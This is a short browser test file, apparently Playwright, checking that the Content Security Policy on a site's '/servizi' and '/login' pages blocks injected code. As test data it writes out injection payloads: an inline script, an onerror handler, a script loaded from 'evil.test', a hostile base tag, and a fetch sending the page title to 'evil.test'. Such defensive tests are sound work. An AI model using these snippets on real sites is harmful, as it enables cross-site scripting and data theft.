import { expect, test } from "../support/browser/journey.ts";

/** Returns a script that runs `what` and returns the directive by which the page's policy blocks it. */
const refusedBy = (what: string) => `
  new Promise((resolve) => {
    document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
    ${what}
  })`;

const inline = `document.head.append(Object.assign(document.createElement("script"), { textContent: "window.ran = 1" }))`;
const handler = `document.body.insertAdjacentHTML("beforeend", '<img src="/assente.png" onerror="window.ran = 1">')`;
const foreign = `document.head.append(Object.assign(document.createElement("script"), { src: "https://evil.test/a.js" }))`;
const base = `document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.test/" }))`;
const leak = `fetch("https://evil.test/?" + document.title).catch(() => undefined)`;

for (const path of ["/servizi", "/login"])
  test(`${path} runs no foreign script and talks to no foreign site`, async ({ page, allowErrors }) => {
    allowErrors(/Content Security Policy|status of 404/);
    await page.goto(path);
    for (const [name, what, directive] of [
      ["a script in the text", inline, "script-src-elem"],
      ["a handler in the text", handler, "script-src-attr"],
      ["another site's script", foreign, "script-src-elem"],
      ["another base of addresses", base, "base-uri"],
      ["a message to another site", leak, "connect-src"],
    ] as const) {
      await test.step(name, async () => {
        expect(await page.evaluate(refusedBy(what))).toBe(directive);
        expect(await page.evaluate("window.ran")).toBeUndefined();
      });
    }
  });
